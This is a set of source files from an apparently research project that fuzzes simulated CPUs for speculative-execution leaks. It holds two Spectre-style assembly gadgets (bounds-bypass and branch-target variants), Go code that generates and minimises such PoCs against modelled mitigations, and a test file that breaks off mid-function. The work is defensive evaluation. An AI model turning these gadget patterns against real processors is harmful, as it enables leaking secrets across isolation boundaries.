    LDR  X14, [X13]        // victim recently used its secret: it is cached
    DSB                    // the warm access completes before the attack

    MOV  X12, #8
loop:
    ADR  X9, size_slot
    DC   CIVAC, X9
    DSB
    CMP  X12, #1
    CSEL X0, X27, X28, EQ
    BL   victim
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

victim:
    BTI
    LDR  X1, [X20]
    CMP  X0, X1
    B.HS vdone
    ADD  X26, X21, X0
    LDR  X5, [X26]
    SDIV X7, X5, X10
vdone:
    RET

    .org 0x120000
size_slot:
    .word 16

    .org 1048576
array1:
    .space 128
    .org 1114112
probe:
    .space 4096

    .org 2097152
fuzzprobe:
    .space 65536

