
_start:
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X7, #13

    MOV  X13, #1048704
    LDG  X13, [X13]
    LDR  X14, [X13]        // victim recently used its secret: it is cached
    DSB                    // the warm access completes before the attack
    ADR  X19, fnslot
    ADR  X24, gadget
    ADR  X25, legit
    MOV  X23, X21
    MOV X18, #1048704
    MOV  X12, #3
loop:
    CMP  X12, #1
    CSEL X9, X25, X24, EQ
    STR  X9, [X19]
    CSEL X26, X18, X23, EQ
    ADR  X9, fnslot
    DC   CIVAC, X9
    DSB
    LDR  X9, [X19]
    BLR  X9
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

gadget:                    // not BTI
    LDR  X5, [X26]
    AND  X6, X5, #1
    CBZ  X6, fz_light
fz_light:
    RET
legit:
    BTI
    RET

    .org 0x120000
fnslot:
    .word 0

    .org 1048576
array1:
    .space 128
    .org 1114112
probe:
    .space 4096

    .org 2097152
fuzzprobe:
    .space 65536

