package fuzzer

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"

	"specasan/internal/core"
	"specasan/internal/par"
	"specasan/internal/store"
)

// Options configures one fuzzing run.
type Options struct {
	// Seed drives generation: candidate i is a pure function of (Seed, i).
	Seed uint64
	// N is the candidate count. With N > 0 the run is exactly determined by
	// (Seed, N): same PoC corpus bytes at any Workers. With N == 0 the run
	// proceeds in whole batches until Budget expires (one batch if Budget
	// is also zero); the corpus is then a deterministic prefix.
	N int
	// Budget bounds wall-clock time for N == 0 runs.
	Budget time.Duration
	// Workers sizes the evaluation pool (0 = GOMAXPROCS).
	Workers int
	// ParallelCores sets intra-machine core stepping on every evaluation
	// machine (cpu.Machine.ParallelCores semantics). Result-neutral: the
	// corpus bytes are identical for any value, so it is not part of the
	// evaluation cache key.
	ParallelCores int
	// OutDir is the results root: PoCs land in OutDir/pocs, architectural
	// divergences in OutDir/differential. Empty disables emission (tests).
	OutDir string
	// Store, when set, caches candidate evaluations content-addressed, so
	// interrupted or repeated runs are cache hits.
	Store *store.Store
	// Mitigations overrides the evaluation columns (default: every
	// registered policy).
	Mitigations []core.Mitigation
	// SkipMinimise emits finds unminimised (triage speed over quality).
	SkipMinimise bool
	// Log receives progress lines (nil = silent).
	Log io.Writer
}

// batchSize is the unit of budget-bounded progress: batches always complete,
// so a budget-stopped corpus is a deterministic prefix of the unbounded run.
const batchSize = 64

// Find is one deduplicated flagged candidate awaiting minimisation.
type Find struct {
	Cand    *Candidate
	Kind    string
	Flagged []FlaggedMit
}

// Report summarises a run.
type Report struct {
	Seed       uint64 `json:"seed"`
	Candidates int    `json:"candidates"`
	Valid      int    `json:"valid"`
	CacheHits  int    `json:"cache_hits"`

	PoCs            []string `json:"pocs,omitempty"`  // written JSON paths
	Counterexamples int      `json:"counterexamples"` // PoCs of kind counterexample
	KnownGaps       int      `json:"known_gaps"`      // PoCs of kind known-gap
	Unminimisable   []string `json:"unminimisable,omitempty"`
	Differential    []string `json:"differential,omitempty"` // written divergence paths
}

// storeSpace derives the cache namespace from everything that shapes an
// evaluation: grammar and claims-model versions, budgets, and the exact
// mitigation descriptor set. Any change re-evaluates from scratch.
func storeSpace(mits []core.Mitigation) string {
	h := sha256.New()
	fmt.Fprintf(h, "gen=%d claims=%d eval=%d golden=%d\n", GeneratorVersion, ClaimsVersion, evalMaxCycles, goldenBudget)
	for _, m := range mits {
		d, _ := json.Marshal(m.Descriptor())
		h.Write(d)
		h.Write([]byte{'\n'})
	}
	return "fuzz-" + hex.EncodeToString(h.Sum(nil))[:12]
}

func evaluateCached(c *Candidate, mits []core.Mitigation, st *store.Store, space string, parallelCores int) (*Evaluation, bool) {
	if st == nil {
		return EvaluateCandidateParallel(c, mits, parallelCores), false
	}
	key := store.Key{Space: space, Name: c.Hash()}
	var cached Evaluation
	if ok, err := st.GetJSON(key, &cached); err == nil && ok {
		return &cached, true
	}
	ev := EvaluateCandidateParallel(c, mits, parallelCores)
	_ = st.PutJSON(key, ev) // best-effort: read-only stores degrade to misses
	return ev, false
}

// Run executes the fuzzing loop: generate → evaluate (parallel, cached) →
// dedup flagged finds in index order → minimise → cross-checked PoC
// emission. The emitted corpus is byte-identical for a given (Seed, N) at
// any worker count.
func Run(opts Options) (*Report, error) {
	logf := func(format string, args ...any) {
		if opts.Log != nil {
			fmt.Fprintf(opts.Log, format+"\n", args...)
		}
	}
	mits := opts.Mitigations
	if len(mits) == 0 {
		mits = core.RegisteredMitigations()
	}
	mitNames := make([]string, len(mits))
	for i, m := range mits {
		mitNames[i] = m.String()
	}
	space := storeSpace(mits)
	report := &Report{Seed: opts.Seed}

	type diverging struct {
		Cand *Candidate
		Mits []string
	}
	var (
		finds    []*Find
		diverged []diverging
		seen     = map[string]bool{}
	)

	// processBatch evaluates candidates [start, start+n) in parallel and
	// folds results in strict index order — the determinism point.
	processBatch := func(start, n int) {
		cands := make([]*Candidate, n)
		evals := make([]*Evaluation, n)
		hits := make([]bool, n)
		par.ForEachOrdered(n, opts.Workers, func(i int) {
			cands[i] = Generate(opts.Seed, start+i)
			evals[i], hits[i] = evaluateCached(cands[i], mits, opts.Store, space, opts.ParallelCores)
		}, func(i int) {
			c, ev := cands[i], evals[i]
			report.Candidates++
			if hits[i] {
				report.CacheHits++
			}
			if !ev.Valid {
				return
			}
			report.Valid++
			if len(ev.Diverged) > 0 {
				diverged = append(diverged, diverging{Cand: c, Mits: ev.Diverged})
			}
			if !ev.Flagged() {
				return
			}
			kind := KindKnownGap
			flaggedMits := ev.KnownGapLeaks
			if len(ev.Counterexamples) > 0 {
				kind = KindCounterexample
				flaggedMits = ev.Counterexamples
			}
			sig := kind + "|" + c.FeatureSig() + "|" + strings.Join(flaggedMits, ",")
			if seen[sig] {
				return
			}
			seen[sig] = true
			var flagged []FlaggedMit
			for _, name := range flaggedMits {
				m, err := core.ParseMitigation(name)
				if err != nil {
					continue // registry changed underneath a cached row
				}
				tier, reason := Claim(m, c)
				flagged = append(flagged, FlaggedMit{Mitigation: name, Claim: tier.String(), Reason: reason})
			}
			finds = append(finds, &Find{Cand: c, Kind: kind, Flagged: flagged})
		})
	}

	t0 := time.Now()
	if opts.N > 0 {
		processBatch(0, opts.N)
	} else {
		for start := 0; ; start += batchSize {
			processBatch(start, batchSize)
			logf("batch %d done: %d candidates, %d finds, %s elapsed",
				start/batchSize, report.Candidates, len(finds), time.Since(t0).Round(time.Millisecond))
			if opts.Budget <= 0 || time.Since(t0) >= opts.Budget {
				break
			}
		}
	}
	logf("scan: %d candidates (%d valid, %d cache hits), %d distinct finds, %d divergences",
		report.Candidates, report.Valid, report.CacheHits, len(finds), len(diverged))

	// Minimise and emit, sequentially in find order (deterministic).
	for _, f := range finds {
		target, err := core.ParseMitigation(f.Flagged[0].Mitigation)
		if err != nil {
			report.Unminimisable = append(report.Unminimisable,
				fmt.Sprintf("%s: %v", f.Cand.Name(), err))
			continue
		}
		min := f.Cand
		if !opts.SkipMinimise {
			min, err = Minimise(f.Cand, target)
			if err != nil {
				report.Unminimisable = append(report.Unminimisable,
					fmt.Sprintf("%s: %v", f.Cand.Name(), err))
				continue
			}
		}
		final := EvaluateCandidateParallel(min, mits, opts.ParallelCores)
		if !final.Valid || !final.Flagged() {
			report.Unminimisable = append(report.Unminimisable,
				fmt.Sprintf("%s: minimised form no longer flags (valid=%v)", f.Cand.Name(), final.Valid))
			continue
		}
		kind := KindKnownGap
		if len(final.Counterexamples) > 0 {
			kind = KindCounterexample
		}
		var flagged []FlaggedMit
		for _, name := range append(append([]string{}, final.Counterexamples...), final.KnownGapLeaks...) {
			m, _ := core.ParseMitigation(name)
			tier, reason := Claim(m, min)
			flagged = append(flagged, FlaggedMit{Mitigation: name, Claim: tier.String(), Reason: reason})
		}
		poc := BuildPoC(min, kind, flagged, final.Rows, mitNames)
		if kind == KindCounterexample {
			report.Counterexamples++
		} else {
			report.KnownGaps++
		}
		if opts.OutDir != "" {
			path, err := poc.Write(filepath.Join(opts.OutDir, "pocs"))
			if err != nil {
				return report, fmt.Errorf("write poc %s: %w", poc.Name, err)
			}
			report.PoCs = append(report.PoCs, path)
			logf("poc %s (%s) -> %s", poc.Name, kind, path)
		} else {
			report.PoCs = append(report.PoCs, poc.Name)
		}
	}

	// Divergences route to the differential corpus: they are simulator
	// bugs for FuzzDifferentialGolden to chew on, not attacks.
	if opts.OutDir != "" && len(diverged) > 0 {
		dir := filepath.Join(opts.OutDir, "differential")
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return report, err
		}
		for _, d := range diverged {
			base := filepath.Join(dir, "diverge-"+d.Cand.Hash())
			doc, err := json.MarshalIndent(struct {
				Candidate *Candidate `json:"candidate"`
				Diverged  []string   `json:"diverged"`
			}{d.Cand, d.Mits}, "", "  ")
			if err != nil {
				return report, err
			}
			if err := os.WriteFile(base+".json", append(doc, '\n'), 0o644); err != nil {
				return report, err
			}
			if err := os.WriteFile(base+".s", []byte(d.Cand.Source), 0o644); err != nil {
				return report, err
			}
			report.Differential = append(report.Differential, base+".json")
		}
	}
	logf("emitted %d PoCs (%d counterexamples, %d known-gap), %d unminimisable, %d differential",
		len(report.PoCs), report.Counterexamples, report.KnownGaps,
		len(report.Unminimisable), len(report.Differential))
	return report, nil
}
