package fuzzer

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/attacks"
	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/golden"
	"specasan/internal/isa"
)

// goldenBudget bounds the reference walk of one candidate, in instructions.
// Generated programs retire a few hundred; anything near this bound is not a
// usable PoC.
const goldenBudget = 200_000

// MitRow is one (candidate, mitigation) cell: the oracle outcome next to the
// claims-model judgment.
type MitRow struct {
	Mitigation string `json:"mitigation"`
	Claim      string `json:"claim"`
	Reason     string `json:"reason,omitempty"`

	Leaked      bool           `json:"leaked"`
	Faulted     bool           `json:"faulted,omitempty"`
	TimedOut    bool           `json:"timed_out,omitempty"`
	SecretReads uint64         `json:"secret_reads,omitempty"`
	Channels    map[string]int `json:"channels,omitempty"`
}

// Evaluation is the full judgment of one candidate: per-mitigation rows plus
// the triage lists the loop acts on. It is the store-cached unit — re-runs
// of the same candidate under the same claims model are cache hits.
type Evaluation struct {
	Hash          string `json:"hash"`
	Valid         bool   `json:"valid"`
	InvalidReason string `json:"invalid_reason,omitempty"`

	Rows []MitRow `json:"rows,omitempty"`

	// Counterexamples: mitigations whose bits claim this shape blocked, yet
	// the oracle saw a leak and the run cross-checked clean against golden.
	Counterexamples []string `json:"counterexamples,omitempty"`
	// KnownGapLeaks: mitigations whose documented exception this candidate
	// exercises — the expected, Table-1-◐-style finds.
	KnownGapLeaks []string `json:"known_gap_leaks,omitempty"`
	// Diverged: mitigations under which the machine's architectural state
	// disagreed with the golden interpreter. A "leak" on top of divergence
	// is a simulator bug, not an attack; these route to the differential
	// corpus.
	Diverged []string `json:"diverged,omitempty"`
}

// Flagged reports whether the evaluation produced anything worth minimising.
func (e *Evaluation) Flagged() bool {
	return len(e.Counterexamples) > 0 || len(e.KnownGapLeaks) > 0
}

// goldenState is one reference walk: the interpreter (for memory
// comparisons) and its result.
type goldenState struct {
	ip  *golden.Interp
	res *golden.Result
}

func runGolden(c *Candidate, prog *asm.Program, mteOn bool) *goldenState {
	ip := golden.New(prog)
	ip.MTEOn = mteOn
	ip.TagSeed = cpu.TagSeedBase
	c.Setup.ApplyImage(ip.Mem)
	return &goldenState{ip: ip, res: ip.Run(goldenBudget)}
}

// EvaluateCandidate runs c under every mitigation in mits, judges each
// outcome against the claims model, and architecturally cross-checks every
// flagged leak against the golden interpreter.
func EvaluateCandidate(c *Candidate, mits []core.Mitigation) *Evaluation {
	return EvaluateCandidateParallel(c, mits, 0)
}

// EvaluateCandidateParallel is EvaluateCandidate with an explicit
// intra-machine core-stepping mode (cpu.Machine.ParallelCores semantics:
// 0 auto, 1 serial, >= 2 one goroutine per simulated core). Evaluations
// are bit-identical across modes — candidate programs are single-core
// today, and the machine pins serial-vs-parallel identity regardless — so
// the mode is deliberately absent from the evaluation cache key; the knob
// lets fuzz smokes prove corpus bytes are stepping-mode-independent.
func EvaluateCandidateParallel(c *Candidate, mits []core.Mitigation, parallelCores int) *Evaluation {
	ev := &Evaluation{Hash: c.Hash()}
	prog, err := asm.Assemble(c.Source)
	if err != nil {
		ev.InvalidReason = fmt.Sprintf("assemble: %v", err)
		return ev
	}

	// The reference walks: a candidate must terminate cleanly (no fault, no
	// budget exhaustion) in both MTE modes to be a usable PoC — committed-
	// path behaviour is the victim's own program and must be benign.
	gold := map[bool]*goldenState{
		false: runGolden(c, prog, false),
		true:  runGolden(c, prog, true),
	}
	for _, mode := range []bool{false, true} {
		if r := gold[mode].res.Reason; r != golden.StopExit {
			ev.InvalidReason = fmt.Sprintf("golden (mte=%v) stopped with %v at pc %#x", mode, r, gold[mode].res.PC)
			return ev
		}
	}
	ev.Valid = true

	variant := c.Variant()
	var prep func(*cpu.Machine)
	if parallelCores != 0 {
		prep = func(m *cpu.Machine) { m.ParallelCores = parallelCores }
	}
	for _, mit := range mits {
		tier, reason := Claim(mit, c)
		out, err := attacks.RunVariantWith(variant, mit, prep)
		if err != nil {
			// The source assembled above; a per-mitigation build error is
			// structural and poisons the whole candidate.
			ev.Valid = false
			ev.InvalidReason = fmt.Sprintf("%v: %v", mit, err)
			return ev
		}
		row := MitRow{
			Mitigation: mit.String(), Claim: tier.String(), Reason: reason,
			Leaked: out.Leaked, Faulted: out.Faulted, TimedOut: out.TimedOut,
			SecretReads: out.SecretReads,
		}
		if len(out.Events) > 0 {
			row.Channels = make(map[string]int, len(out.Events))
			for ch, n := range out.Events {
				row.Channels[ch.String()] += n
			}
		}
		ev.Rows = append(ev.Rows, row)

		switch {
		case out.Faulted || out.TimedOut:
			// Golden exits cleanly under both MTE modes, so a fault or a
			// wedge under any mitigation is an architectural divergence.
			ev.Diverged = append(ev.Diverged, mit.String())
		case out.Leaked && tier >= ClaimKnownGap:
			// Every flagged leak is cross-checked: a leak riding on wrong
			// architectural state is a simulator bug, not an attack.
			if crossCheck(c, prog, mit, gold[mit.MTEEnabled()], parallelCores) != nil {
				ev.Diverged = append(ev.Diverged, mit.String())
			} else if tier == ClaimBlocked {
				ev.Counterexamples = append(ev.Counterexamples, mit.String())
			} else {
				ev.KnownGapLeaks = append(ev.KnownGapLeaks, mit.String())
			}
		}
	}
	return ev
}

// crossCheck re-runs the candidate on the cycle-accurate machine under mit
// and compares final architectural state — registers, program output, every
// program data byte plus the secret region — against the golden walk.
// Returns nil when bit-identical.
func crossCheck(c *Candidate, prog *asm.Program, mit core.Mitigation, g *goldenState, parallelCores int) error {
	m, err := cpu.NewMachine(core.DefaultConfig(), mit, prog)
	if err != nil {
		return fmt.Errorf("machine: %w", err)
	}
	m.ParallelCores = parallelCores
	if err := c.Setup.Apply(m, prog); err != nil {
		return err
	}
	res := m.Run(evalMaxCycles)
	if res.TimedOut || res.Err != nil {
		return fmt.Errorf("machine inconclusive: %v", res)
	}
	if res.Faulted {
		return fmt.Errorf("machine faulted at %#x, golden exited cleanly", m.Core(0).FaultPC)
	}
	for r := isa.Reg(0); r < isa.NumRegs; r++ {
		if r == isa.XZR {
			continue
		}
		if got, want := m.Core(0).Reg(r), g.res.Regs[r]; got != want {
			return fmt.Errorf("%v = %#x, golden %#x", r, got, want)
		}
	}
	if string(m.Core(0).Output) != string(g.res.Output) {
		return fmt.Errorf("output %q, golden %q", m.Core(0).Output, g.res.Output)
	}
	for _, d := range prog.Data {
		for i := range d.Bytes {
			a := d.Addr + uint64(i)
			if got, want := m.Img.ByteAt(a), g.ip.Mem.ByteAt(a); got != want {
				return fmt.Errorf("mem[%#x] = %d, golden %d", a, got, want)
			}
		}
	}
	for a := uint64(attacks.SecretAddr); a < attacks.SecretAddr+attacks.SecretSize; a++ {
		if got, want := m.Img.ByteAt(a), g.ip.Mem.ByteAt(a); got != want {
			return fmt.Errorf("secret[%#x] = %d, golden %d", a, got, want)
		}
	}
	return nil
}
