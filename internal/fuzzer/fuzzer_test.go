package fuzzer

import (
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"testing"

	"specasan/internal/attacks"
	"specasan/internal/core"
	"specasan/internal/scenario"
	"specasan/internal/store"
)

func TestGenerateDeterministic(t *testing.T) {
	for i := 0; i < 64; i++ {
		a, b := Generate(42, i), Generate(42, i)
		if a.Source != b.Source || a.Hash() != b.Hash() {
			t.Fatalf("Generate(42, %d) not deterministic", i)
		}
		if !reflect.DeepEqual(a, b) {
			t.Fatalf("Generate(42, %d) structures differ", i)
		}
	}
	// Different indices overwhelmingly produce different programs.
	hashes := map[string]bool{}
	for i := 0; i < 64; i++ {
		hashes[Generate(42, i).Hash()] = true
	}
	if len(hashes) < 48 {
		t.Fatalf("only %d distinct programs in 64 indices", len(hashes))
	}
}

func TestGeneratedCandidatesValid(t *testing.T) {
	// Every generated program must assemble and terminate cleanly on the
	// golden interpreter in both MTE modes — EvaluateCandidate's validity
	// gate. A grammar that emits invalid programs wastes the whole loop.
	mits := []core.Mitigation{core.Unsafe}
	for i := 0; i < 96; i++ {
		c := Generate(7, i)
		ev := EvaluateCandidate(c, mits)
		if !ev.Valid {
			t.Fatalf("candidate %s invalid: %s\n%s", c.Name(), ev.InvalidReason, c.Source)
		}
		if len(ev.Diverged) > 0 {
			t.Fatalf("candidate %s diverges under %v", c.Name(), ev.Diverged)
		}
	}
}

func TestGenerateCoversGrammar(t *testing.T) {
	// A modest index range must exercise every trigger, relation and channel.
	triggers, relations, channels := map[string]bool{}, map[string]bool{}, map[string]bool{}
	for i := 0; i < 256; i++ {
		c := Generate(1, i)
		triggers[c.Trigger], relations[c.Relation], channels[c.Channel] = true, true, true
	}
	if len(triggers) != len(attacks.Triggers()) {
		t.Fatalf("triggers covered: %v", triggers)
	}
	if len(channels) != len(Channels()) {
		t.Fatalf("channels covered: %v", channels)
	}
	for _, rel := range []string{attacks.RelForeign, attacks.RelMatching, attacks.RelStale, attacks.RelUntagged} {
		if !relations[rel] {
			t.Fatalf("relation %s never generated", rel)
		}
	}
}

// mustMit parses a registry name.
func mustMit(t *testing.T, name string) core.Mitigation {
	t.Helper()
	m, err := core.ParseMitigation(name)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestClaimsTable(t *testing.T) {
	// The claims model pinned against hand-derived Table 1 reasoning. Each row
	// is (mitigation, trigger, relation, channel) → expected tier. DelayOnMiss
	// registers via the scenario package import.
	_ = scenario.DelayOnMiss
	cand := func(trigger, rel, ch string) *Candidate {
		return &Candidate{Trigger: trigger, Relation: rel, Channel: ch}
	}
	cases := []struct {
		mit     string
		trigger string
		rel     string
		ch      string
		want    ClaimTier
	}{
		// Unsafe and committed-path MTE claim nothing.
		{"Unsafe", attacks.TriggerPHT, attacks.RelForeign, ChanCache, ClaimNone},
		{"MTE", attacks.TriggerPHT, attacks.RelForeign, ChanCache, ClaimNone},
		// The fence delays every speculative load: blocked everywhere.
		{"SpecBarrier", attacks.TriggerPHT, attacks.RelForeign, ChanCache, ClaimBlocked},
		{"SpecBarrier", attacks.TriggerSTL, attacks.RelUntagged, ChanPort, ClaimBlocked},
		// STT blocks memory/branch transmitters but documents the SCC gap.
		{"STT", attacks.TriggerPHT, attacks.RelForeign, ChanCache, ClaimBlocked},
		{"STT", attacks.TriggerBTB, attacks.RelMatching, ChanBranch, ClaimBlocked},
		{"STT", attacks.TriggerPHT, attacks.RelForeign, ChanPort, ClaimKnownGap},
		{"STT", attacks.TriggerRSB, attacks.RelMatching, ChanDiv, ClaimKnownGap},
		// GhostMinion covers cache-shaped fills, not contention.
		{"GhostMinion", attacks.TriggerPHT, attacks.RelForeign, ChanCache, ClaimBlocked},
		{"GhostMinion", attacks.TriggerPHT, attacks.RelForeign, ChanTagLatency, ClaimBlocked},
		{"GhostMinion", attacks.TriggerPHT, attacks.RelForeign, ChanPort, ClaimKnownGap},
		{"GhostMinion", attacks.TriggerSTL, attacks.RelStale, ChanBranch, ClaimKnownGap},
		// SpecCFI claims only injected control flow.
		{"SpecCFI", attacks.TriggerBTB, attacks.RelForeign, ChanCache, ClaimBlocked},
		{"SpecCFI", attacks.TriggerRSB, attacks.RelMatching, ChanPort, ClaimBlocked},
		{"SpecCFI", attacks.TriggerPHT, attacks.RelForeign, ChanCache, ClaimNone},
		{"SpecCFI", attacks.TriggerSTL, attacks.RelStale, ChanCache, ClaimNone},
		// SpecASan: tag violations and stale-window loads blocked; tag-valid
		// pointers are the paper's partial rows; untagged slots escape MTE.
		{"SpecASan", attacks.TriggerPHT, attacks.RelForeign, ChanCache, ClaimBlocked},
		{"SpecASan", attacks.TriggerSTL, attacks.RelStale, ChanCache, ClaimBlocked},
		{"SpecASan", attacks.TriggerBTB, attacks.RelMatching, ChanCache, ClaimKnownGap},
		{"SpecASan", attacks.TriggerSTL, attacks.RelUntagged, ChanCache, ClaimKnownGap},
		// Claims combine by max tier: SpecASan+CFI on a matching-pointer BTB
		// shape is blocked (CFI) even though sanitization alone is partial.
		{"SpecASan+CFI", attacks.TriggerBTB, attacks.RelMatching, ChanCache, ClaimBlocked},
		{"SpecASan+CFI", attacks.TriggerSTL, attacks.RelUntagged, ChanCache, ClaimKnownGap},
		// DelayOnMiss: known gap on cache-shaped channels, no claim otherwise.
		{"DelayOnMiss", attacks.TriggerPHT, attacks.RelForeign, ChanCache, ClaimKnownGap},
		{"DelayOnMiss", attacks.TriggerPHT, attacks.RelForeign, ChanPort, ClaimNone},
	}
	for _, tc := range cases {
		got, reason := Claim(mustMit(t, tc.mit), cand(tc.trigger, tc.rel, tc.ch))
		if got != tc.want {
			t.Errorf("Claim(%s, %s/%s/%s) = %v (%s), want %v",
				tc.mit, tc.trigger, tc.rel, tc.ch, got, reason, tc.want)
		}
		if reason == "" {
			t.Errorf("Claim(%s, %s/%s/%s) has no reason", tc.mit, tc.trigger, tc.rel, tc.ch)
		}
	}
}

func TestDdmin(t *testing.T) {
	lines := []string{"a", "b", "c", "d", "e", "f", "g", "h"}
	needs := func(keep ...string) func([]string) bool {
		return func(ls []string) bool {
			have := map[string]bool{}
			for _, l := range ls {
				have[l] = true
			}
			for _, k := range keep {
				if !have[k] {
					return false
				}
			}
			return true
		}
	}
	cases := [][]string{{"c"}, {"b", "g"}, {"a", "d", "h"}, {}}
	for _, want := range cases {
		got := ddmin(lines, needs(want...))
		if !reflect.DeepEqual(got, want) && !(len(want) == 0 && len(got) <= 1) {
			t.Errorf("ddmin keeping %v = %v", want, got)
		}
	}
	// Order is preserved.
	got := ddmin(lines, needs("g", "b"))
	if !reflect.DeepEqual(got, []string{"b", "g"}) {
		t.Errorf("ddmin must preserve line order: %v", got)
	}
}

// firstFind scans generated candidates until one flags under the full
// registry, returning it with its evaluation.
func firstFind(t *testing.T, seed uint64) (*Candidate, *Evaluation) {
	t.Helper()
	mits := core.RegisteredMitigations()
	for i := 0; i < 128; i++ {
		c := Generate(seed, i)
		ev := EvaluateCandidate(c, mits)
		if ev.Valid && ev.Flagged() && len(ev.Diverged) == 0 {
			return c, ev
		}
	}
	t.Fatal("no flagged candidate in 128 indices")
	return nil, nil
}

func TestMinimisePreservesLeak(t *testing.T) {
	c, ev := firstFind(t, 11)
	flagged := append(append([]string{}, ev.Counterexamples...), ev.KnownGapLeaks...)
	target := mustMit(t, flagged[0])
	min, err := Minimise(c, target)
	if err != nil {
		t.Fatalf("Minimise: %v", err)
	}
	if len(min.Body) > len(c.Body) {
		t.Fatalf("minimised body grew: %d > %d", len(min.Body), len(c.Body))
	}
	// The minimised candidate still replays the leak under the target.
	out, err := attacks.RunVariantWith(min.Variant(), target, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Leaked {
		t.Fatalf("minimised candidate does not leak under %v:\n%s", target, min.Source)
	}
	// And no deletable line remains: dropping any single body line kills the
	// leak or the candidate (1-minimality of ddmin).
	for i := range min.Body {
		reduced := *min
		reduced.Body = append(append([]string{}, min.Body[:i]...), min.Body[i+1:]...)
		if err := reduced.Render(); err != nil {
			continue
		}
		rev := EvaluateCandidate(&reduced, []core.Mitigation{target})
		if rev.Valid && len(rev.Diverged) == 0 && len(rev.Rows) == 1 && rev.Rows[0].Leaked {
			t.Fatalf("line %d (%q) is deletable — not 1-minimal", i, min.Body[i])
		}
	}
}

func TestMinimiseRejectsNonReplayingFind(t *testing.T) {
	// A candidate that does not leak under the named mitigation must be
	// reported unminimisable, not silently emitted.
	c := Generate(1, 0)
	var blocked core.Mitigation
	found := false
	ev := EvaluateCandidate(c, core.RegisteredMitigations())
	for _, row := range ev.Rows {
		if !row.Leaked {
			blocked, found = mustMit(t, row.Mitigation), true
			break
		}
	}
	if !found {
		t.Skip("candidate leaks under every mitigation")
	}
	if _, err := Minimise(c, blocked); err == nil {
		t.Fatalf("Minimise must fail for a non-leaking target %v", blocked)
	} else if !strings.Contains(err.Error(), "unminimisable") {
		t.Fatalf("error %q does not say unminimisable", err)
	}
}

func TestPoCRoundTrip(t *testing.T) {
	c, ev := firstFind(t, 13)
	flagged := append(append([]string{}, ev.Counterexamples...), ev.KnownGapLeaks...)
	var fm []FlaggedMit
	for _, name := range flagged {
		tier, reason := Claim(mustMit(t, name), c)
		fm = append(fm, FlaggedMit{Mitigation: name, Claim: tier.String(), Reason: reason})
	}
	kind := KindKnownGap
	if len(ev.Counterexamples) > 0 {
		kind = KindCounterexample
	}
	poc := BuildPoC(c, kind, fm, ev.Rows, []string{"Unsafe", "SpecASan"})
	dir := t.TempDir()
	path, err := poc.Write(dir)
	if err != nil {
		t.Fatal(err)
	}
	got, err := ReadPoC(path)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, poc) {
		t.Fatal("PoC did not round-trip")
	}
	if _, err := os.Stat(filepath.Join(dir, poc.Name+".s")); err != nil {
		t.Fatalf("assembly file missing: %v", err)
	}
	// The embedded scenario validates and references the assembly.
	if err := got.Scenario.Validate(); err != nil {
		t.Fatalf("embedded scenario invalid: %v", err)
	}
	if want := scenario.FileWorkloadPrefix + poc.Name + ".s"; got.Scenario.Workloads[0] != want {
		t.Fatalf("scenario workload = %q, want %q", got.Scenario.Workloads[0], want)
	}
	// Replay: the document alone reproduces the leak under a flagged column.
	out, err := attacks.RunVariantWith(got.Variant(), mustMit(t, got.Flagged[0].Mitigation), nil)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Leaked {
		t.Fatal("round-tripped PoC does not replay its leak")
	}
}

func TestReadPoCRejectsWrongSchema(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bad.json")
	if err := os.WriteFile(path, []byte(`{"schema":"other/v9"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadPoC(path); err == nil {
		t.Fatal("wrong schema must be rejected")
	}
}

// runCorpus runs the loop into a temp dir and returns name → file bytes for
// everything emitted.
func runCorpus(t *testing.T, opts Options) (map[string]string, *Report) {
	t.Helper()
	dir := t.TempDir()
	opts.OutDir = dir
	rep, err := Run(opts)
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{}
	for _, sub := range []string{"pocs", "differential"} {
		entries, err := os.ReadDir(filepath.Join(dir, sub))
		if os.IsNotExist(err) {
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range entries {
			data, err := os.ReadFile(filepath.Join(dir, sub, e.Name()))
			if err != nil {
				t.Fatal(err)
			}
			files[sub+"/"+e.Name()] = string(data)
		}
	}
	return files, rep
}

func TestRunCorpusIdenticalAcrossWorkers(t *testing.T) {
	base := Options{Seed: 5, N: 24}
	serial, srep := runCorpus(t, Options{Seed: base.Seed, N: base.N, Workers: 1})
	parallel, prep := runCorpus(t, Options{Seed: base.Seed, N: base.N, Workers: 8})
	if len(serial) == 0 {
		t.Fatal("run emitted nothing; the determinism check is vacuous")
	}
	if !reflect.DeepEqual(keys(serial), keys(parallel)) {
		t.Fatalf("file sets differ:\n  serial   %v\n  parallel %v", keys(serial), keys(parallel))
	}
	for name, want := range serial {
		if parallel[name] != want {
			t.Fatalf("%s differs between -workers 1 and 8", name)
		}
	}
	if srep.Candidates != prep.Candidates || len(srep.PoCs) != len(prep.PoCs) {
		t.Fatal("report counts differ across worker counts")
	}
}

func TestRunStoreResume(t *testing.T) {
	st, err := store.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	opts := Options{Seed: 5, N: 16, Store: st}
	first, frep := runCorpus(t, opts)
	if frep.CacheHits != 0 {
		t.Fatalf("cold run had %d cache hits", frep.CacheHits)
	}
	second, srep := runCorpus(t, opts)
	if srep.CacheHits != srep.Candidates {
		t.Fatalf("resumed run: %d/%d cache hits", srep.CacheHits, srep.Candidates)
	}
	if !reflect.DeepEqual(first, second) {
		t.Fatal("cached corpus differs from cold corpus")
	}
}

func TestStoreSpaceTracksRegistry(t *testing.T) {
	all := core.RegisteredMitigations()
	if storeSpace(all) == storeSpace(all[:len(all)-1]) {
		t.Fatal("store space must change with the mitigation set")
	}
